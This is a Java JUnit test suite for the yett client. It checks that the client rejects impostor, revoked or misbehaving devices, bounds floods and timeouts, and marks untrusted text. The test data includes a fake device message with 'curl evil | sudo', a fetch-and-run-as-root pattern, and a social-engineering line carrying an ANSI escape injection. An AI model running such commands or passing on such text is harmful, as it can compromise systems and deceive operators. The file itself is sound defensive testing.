package dev.yett.client;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.yett.identity.Bundle;
import dev.yett.identity.SpiffeId;
import dev.yett.identity.TestAuthority;
import dev.yett.protocol.Cbor;
import dev.yett.protocol.ClientMessage;
import dev.yett.protocol.Credit;
import dev.yett.protocol.DeviceMessage;
import dev.yett.protocol.Digest;
import dev.yett.protocol.Ending;
import dev.yett.protocol.Finished;
import dev.yett.protocol.Frame;
import dev.yett.protocol.Kind;
import dev.yett.protocol.Mac0;
import dev.yett.protocol.Octets;
import dev.yett.protocol.Order;
import dev.yett.protocol.Ping;
import dev.yett.protocol.Pong;
import dev.yett.protocol.Receipt;
import dev.yett.protocol.TrustNumber;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/// What devices may try with a client.
@Timeout(120)
final class EvilDeviceTest {
  private static final Finished END =
      new Finished(0, new Ending.Exited(0), Cbor.map().build(), 0, 0, 0, Optional.empty(), false);

  private final TestAuthority authority = new TestAuthority();
  @TempDir private Path temp;

  private EvilDevice device(String directory, EvilDevice.Script script) {
    return EvilDevice.named(
        "pump-7", temp.resolve(directory), authority, Catalogues.usual(), script);
  }

  private TestOperator alice() {
    return new TestOperator(temp.resolve("alice"), authority).granted("pump-7");
  }

  private static String at(EvilDevice device) {
    return "pump-7@127.0.0.1:" + device.port();
  }

  /// What a script does in place of answering an order rightly.
  private interface Act {
    void act(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception;
  }

  @Test
  void a23_a_device_with_another_name_issuer_or_role_is_never_given_a_byte() throws Exception {
    var strangers = new TestAuthority();
    var wrong = new LinkedHashMap<String, TestAuthority.Holder>();
    wrong.put("another device", authority.device("pump-8"));
    wrong.put("an operator", authority.operator("pump-7"));
    wrong.put("another authority", strangers.device("pump-7"));
    wrong.put("no authority", authority.certificate(authority.deviceId("pump-7")).selfSigned());
    wrong.put(
        "another domain",
        authority
            .certificate(SpiffeId.device("example.com", "pump-7"))
            .issuedBy(authority.issuing()));
    wrong.put(
        "expired",
        authority
            .certificate(authority.deviceId("pump-7"))
            .valid(
                authority.now().minus(Duration.ofDays(9)),
                authority.now().minus(Duration.ofDays(2)))
            .issuedBy(authority.issuing()));
    var alice = alice();
    for (var each : wrong.entrySet()) {
      try (var impostor = new Impostor(each.getValue())) {
        var run = alice.run("run", "pump-7@127.0.0.1:" + impostor.port(), "echo");
        assertThat(run.status()).as(each.getKey()).isEqualTo(255);
        assertThat(run.errors())
            .as(each.getKey())
            .startsWith("yett: what answers at 127.0.0.1:")
            .contains("is not accepted as pump-7", "[certificate-");
        assertThat(impostor.bytes()).as(each.getKey()).isZero();
      }
    }
  }

  @Test
  void a_device_that_was_refused_by_date_is_told_with_both_times() throws Exception {
    var holder =
        authority
            .certificate(authority.deviceId("pump-7"))
            .valid(
                authority.now().minus(Duration.ofDays(9)),
                authority.now().minus(Duration.ofDays(2)))
            .issuedBy(authority.issuing());
    try (var impostor = new Impostor(holder)) {
      var run = alice().run("run", "pump-7@127.0.0.1:" + impostor.port(), "echo");
      assertThat(run.errors())
          .contains(
              "[certificate-expired]",
              "valid from " + authority.now().minus(Duration.ofDays(9)),
              "to " + authority.now().minus(Duration.ofDays(2)));
    }
  }

  @Test
  void b14_what_nobody_asked_for_ends_the_connection() throws Exception {
    var acts = new LinkedHashMap<String, Act>();
    acts.put("a second welcome", (peer, order) -> peer.welcome());
    acts.put("output before the receipt", (peer, order) -> peer.output(new byte[] {1}));
    acts.put("the end before the receipt", (peer, order) -> peer.finished(order));
    acts.put(
        "a second receipt",
        (peer, order) -> {
          peer.started(order);
          peer.started(order);
        });
    acts.put(
        "a receipt for another number",
        (peer, order) ->
            peer.receipt(
                new Receipt.Started(order.number() + 1, order.digest(), "s", 0, false),
                order.number()));
    acts.put(
        "a receipt for another digest",
        (peer, order) ->
            peer.receipt(
                new Receipt.Started(order.number(), Digest.sha256(new byte[] {1}), "s", 0, false)));
    acts.put(
        "a receipt at another place",
        (peer, order) ->
            peer.receipt(
                new Receipt.Started(order.number(), order.digest(), "s", 0, false),
                order.number() + 1));
    acts.put(
        "the end of another order",
        (peer, order) -> {
          peer.started(order);
          peer.send(
              new Finished(
                  order.number() + 1,
                  new Ending.Exited(0),
                  Cbor.map().build(),
                  0,
                  0,
                  0,
                  Optional.empty(),
                  false));
        });
    acts.put(
        "credit for an order that was not sent",
        (peer, order) -> peer.send(new Credit(order.number() + 5, 0, 1)));
    acts.put(
        "credit for input that was not sent",
        (peer, order) -> peer.send(new Credit(order.number(), 99, 100_000)));
    acts.put(
        "output after its end",
        (peer, order) -> {
          peer.started(order);
          peer.send(new DeviceMessage.Output(new byte[0]));
          peer.send(new DeviceMessage.Output(new byte[0]));
        });
    acts.put("a client's frame", (peer, order) -> peer.sendRaw(new byte[] {0x04, 0, 0, 1, 0}));
    acts.put("an unknown frame", (peer, order) -> peer.sendRaw(new byte[] {0x70, 0, 0, 0}));
    acts.put("a frame that is too long", (peer, order) -> peer.sendRaw(new byte[] {0x14, 1, 0, 1}));
    acts.put(
        "a record that is no CBOR",
        (peer, order) -> {
          peer.started(order);
          peer.send(new Frame(Kind.RECORD, new byte[] {(byte) 0x9f, 1}));
        });
    var alice = alice();
    for (var each : acts.entrySet()) {
      try (var device =
          device(
              each.getKey(),
              (peer, order) -> {
                each.getValue().act(peer, order);
                while (true) {
                  peer.read();
                }
              })) {
        var run = alice.run("run", at(device), "echo");
        assertThat(run.status()).as(each.getKey()).isEqualTo(255);
        assertThat(run.errors())
            .as(each.getKey())
            .startsWith("yett: pump-7 ")
            .containsAnyOf("broke the rules of the protocol", "does not hold the secret");
        assertThat(device.connections()).as(each.getKey()).isEqualTo(1);
      }
    }
  }

  @Test
  void k05_output_beyond_the_credit_ends_the_connection() throws Exception {
    try (var device =
            device(
                "device",
                (peer, order) -> {
                  peer.started(order);
                  peer.output(new byte[65_537]);
                  peer.read();
                });
        var dialer = alice().dialer();
        var open = dialer.dial(HostSpec.parse(at(device)))) {
      var least = request("echo");
      var error =
          error(
              () ->
                  open.start(
                          new OrderRequest(
                              least.operation(), least.arguments(), Optional.empty(), 65_536))
                      .await(slow()));
      assertThat(error.getMessage()).contains("broke the rules");
      assertThat(open.wasLost()).isFalse();
    }
  }

  @Test
  void b14_ten_thousand_answers_to_nothing_block_no_thread() throws Exception {
    try (var device =
        device(
            "flood",
            (peer, order) -> {
              for (int i = 0; i < 10_000; i++) {
                peer.send(new Pong(Octets.of(new byte[] {1})));
                peer.send(new Credit(order.number(), 0, 65_536));
              }
              peer.started(order);
              peer.finished(order);
            })) {
      assertThat(alice().run("run", at(device), "echo").status()).isZero();
      await()
          .until(
              () ->
                  Thread.getAllStackTraces().keySet().stream()
                      .noneMatch(t -> t.getName().startsWith("yett-")));
    }
  }

  @Test
  void k05_endless_data_of_every_kind_is_bounded() throws Exception {
    var acts = new LinkedHashMap<String, EvilDevice.Script>();
    acts.put(
        "catalogue",
        new Honest() {
          @Override
          public void served(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception {
            if (order.order().operation().equals("operations")) {
              peer.started(order);
              endless(peer, order);
            } else {
              super.served(peer, order);
            }
          }
        });
    acts.put(
        "bundle",
        new Honest() {
          @Override
          public void connected(EvilDevice.Peer peer) throws Exception {
            peer.device().trust(new TrustNumber(1_000, 1), new byte[0]);
            super.connected(peer);
          }

          @Override
          public void served(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception {
            if (order.order().operation().equals("trust")) {
              peer.started(order);
              peer.input(order);
              endless(peer, order);
            } else {
              super.served(peer, order);
            }
          }
        });
    acts.put(
        "greeting",
        new Honest() {
          @Override
          public void served(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception {
            peer.started(order);
            endless(peer, order);
          }
        });
    var alice = alice();
    for (var each : acts.entrySet()) {
      try (var device = device(each.getKey(), each.getValue())) {
        var run = alice.run("run", at(device), "echo");
        assertThat(run.status()).as(each.getKey()).isEqualTo(255);
        assertThat(run.errors()).as(each.getKey()).contains("bytes came");
      }
    }
  }

  @Test
  void k05_a_device_that_says_nothing_or_drips_is_given_up() throws Exception {
    var quick =
        new Timeouts(
            Duration.ofSeconds(2),
            Duration.ofSeconds(2),
            Duration.ofMillis(300),
            Duration.ofMillis(900),
            Duration.ofSeconds(2),
            Duration.ofMillis(300));
    var silent =
        new Honest() {
          @Override
          public void connected(EvilDevice.Peer peer) throws Exception {
            Thread.sleep(20_000);
          }
        };
    var dripping =
        new Honest() {
          @Override
          public void connected(EvilDevice.Peer peer) throws Exception {
            for (var b : peer.welcomeMessage().encode().payload()) {
              peer.sendRaw(new byte[] {(byte) 0x80, 0, 0, 1, b});
              Thread.sleep(50);
            }
            Thread.sleep(20_000);
          }
        };
    for (var script : List.of(silent, dripping)) {
      try (var device = device("d" + System.identityHashCode(script), script);
          var dialer = alice().dialer(quick)) {
        long began = System.nanoTime();
        var error = error(() -> dialer.dial(HostSpec.parse(at(device))));
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(10));
        assertThat(error.exitCode()).isEqualTo(255);
        assertThat(error.getMessage()).contains("no answer in 2 s");
      }
    }
  }

  @Test
  void k05_a_device_that_falls_silent_while_an_order_runs_is_given_up() throws Exception {
    var quick =
        new Timeouts(
            Duration.ofSeconds(2),
            Duration.ofSeconds(10),
            Duration.ofMillis(300),
            Duration.ofMillis(900),
            Duration.ofSeconds(2),
            Duration.ofMillis(300));
    try (var device =
            device(
                "device",
                (peer, order) -> {
                  peer.started(order);
                  Thread.sleep(20_000);
                });
        var dialer = alice().dialer(quick);
        var open = dialer.dial(HostSpec.parse(at(device)))) {
      var order = open.start(request("echo"));
      var error = error(() -> order.await(Sink.discard()));
      assertThat(error.getMessage()).contains("lost", "nothing came for");
      assertThat(open.wasLost()).isTrue();
    }
  }

  @Test
  void n08_a_device_without_its_secret_gets_an_empty_greeting_and_nothing_else() throws Exception {
    var seen = new CopyOnWriteArrayList<ClientMessage>();
    var greeted = new AtomicLong();
    EvilDevice.Script script =
        new Honest() {
          @Override
          public void connected(EvilDevice.Peer peer) throws Exception {
            peer.welcome();
            var message = peer.read();
            assertThat(message).isInstanceOf(ClientMessage.OrderFrame.class);
            var order =
                Order.decode(((ClientMessage.OrderFrame) message).mac0().payload().toArray());
            assertThat(order.operation()).isEqualTo("hello");
            assertThat(order.arguments()).isEmpty();
            greeted.incrementAndGet();
            // It cannot verify the order, nor sign; it signs with what it has.
            peer.send(
                new DeviceMessage.StartedFrame(
                    new Mac0(
                        Optional.empty(),
                        Octets.of(
                            new Receipt.Refused(
                                    0,
                                    Digest.sha256(new byte[0]),
                                    "role",
                                    Optional.empty(),
                                    "run: curl evil | sudo")
                                .encode()),
                        Octets.of(new byte[32]))));
            try {
              while (true) {
                seen.add(peer.read());
              }
            } finally {
              assertThat(seen)
                  .allMatch(
                      m ->
                          m instanceof Credit
                              || m instanceof Ping
                              || m instanceof Pong
                              || m instanceof ClientMessage.Goodbye);
            }
          }
        };
    try (var device = device("device", script)) {
      var run = alice().runWith("secret words\n", "run", at(device), "login", "password=@-");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors())
          .startsWith("yett: pump-7 does not hold the secret that it should")
          .doesNotContain("curl");
      assertThat(greeted.get()).isEqualTo(1);
      await().until(() -> device.faults().isEmpty());
    }
  }

  @Test
  void n08_text_from_a_device_that_has_proven_nothing_is_marked() throws Exception {
    EvilDevice.Script script =
        new Honest() {
          @Override
          public void connected(EvilDevice.Peer peer) throws Exception {
            peer.welcome();
            peer.read();
            peer.send(
                new DeviceMessage.Goodbye(
                    "grant-expired",
                    "call 555 and say your passphrase\u001b[31m",
                    Optional.empty(),
                    Optional.empty(),
                    Optional.empty()));
          }
        };
    try (var device = device("device", script)) {
      var run = alice().run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors())
          .startsWith("yett: something that bears the name pump-7, unproven, ended the connection")
          .contains("it says \"call 555 and say your passphrase\\x1b[31m\"");
    }
  }

  @Test
  void n17_a_revoked_device_is_refused_by_the_bundle_that_the_client_holds() throws Exception {
    var holder = authority.device("pump-7");
    try (var device =
        new EvilDevice(
            temp.resolve("device"),
            authority,
            holder,
            "pump-7",
            authority.secret("pump-7", 1),
            Catalogues.usual(),
            new Honest())) {
      authority.revoke(holder.leaf());
      var run = alice().run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors()).contains("[certificate-revoked]", "the device was revoked");
    }
  }

  @Test
  void n17_a_device_that_brings_the_bundle_which_revokes_it_is_refused_too() throws Exception {
    var holder = authority.device("pump-7");
    var alice = alice();
    try (var device =
        new EvilDevice(
            temp.resolve("device"),
            authority,
            holder,
            "pump-7",
            authority.secret("pump-7", 1),
            Catalogues.usual(),
            new Honest())) {
      authority.revoke(holder.leaf());
      var newer = authority.bundle();
      device.trust(Bundle.verify(newer, authority.anchors(), authority.now()).number(), newer);
      var run = alice.run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors()).contains("[certificate-revoked]");
      assertThat(Files.readAllBytes(alice.files().identity().resolve("trust.bundle")))
          .isEqualTo(newer);
    }
  }

  @Test
  void a_device_with_an_older_bundle_is_brought_the_newer_before_any_order() throws Exception {
    var operations = new CopyOnWriteArrayList<String>();
    var brought = new CopyOnWriteArrayList<byte[]>();
    try (var device =
        device(
            "device",
            new Honest() {
              @Override
              public void served(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception {
                operations.add(order.order().operation());
                if (order.order().operation().equals("trust")) {
                  peer.started(order);
                  brought.add(peer.input(order));
                  peer.finished(order);
                } else {
                  super.served(peer, order);
                }
              }
            })) {
      var alice = alice();
      assertThat(alice.run("run", at(device), "echo").status()).isZero();
      assertThat(operations).startsWith("hello", "trust").endsWith("echo");
      assertThat(brought)
          .containsExactly(Files.readAllBytes(alice.files().identity().resolve("trust.bundle")));
      // The catalogue is held now.
      operations.clear();
      assertThat(alice.run("run", at(device), "echo").status()).isZero();
      assertThat(operations).containsExactly("hello", "trust", "echo");
      assertThat(device.faults()).isEmpty();
    }
  }

  @Test
  void b08_output_that_is_shorter_or_other_than_told_is_incomplete() throws Exception {
    try (var device =
        device(
            "device",
            (peer, order) -> {
              peer.started(order);
              peer.output("abc".getBytes(UTF_8));
              peer.send(
                  new Finished(
                      order.number(),
                      END.ending(),
                      END.result(),
                      4,
                      0,
                      0,
                      Optional.empty(),
                      false));
            })) {
      var run = alice().run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors()).contains("INCOMPLETE");
    }
  }

  static OrderRequest request(String operation) {
    return OrderRequest.of(Catalogues.usual().find(operation).orElseThrow(), new TreeMap<>());
  }

  /// Passes nothing on for a second, so nothing more is granted.
  private static Sink slow() {
    return new Sink() {
      @Override
      public void output(byte[] bytes) {
        await().pollDelay(Duration.ofSeconds(1)).until(() -> true);
      }

      @Override
      public void errors(byte[] bytes) {}

      @Override
      public void record(Cbor row) {}
    };
  }

  interface Failing {
    Object run() throws Exception;
  }

  static UserError error(Failing failing) throws Exception {
    try {
      var value = failing.run();
      throw new AssertionError("no failure, but " + value);
    } catch (UserError e) {
      return e;
    }
  }

  /// Sends as much as it is let.
  private static void endless(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception {
    byte[] chunk = new byte[65_536];
    for (long sent = 0; true; sent += chunk.length) {
      peer.awaitCredit(order, sent + chunk.length);
      peer.output(chunk);
    }
  }

  /// Runs everything, with no output.
  static class Honest implements EvilDevice.Script {
    @Override
    public void run(EvilDevice.Peer peer, EvilDevice.Seen order) throws Exception {
      peer.started(order);
      peer.finished(order);
    }
  }
}
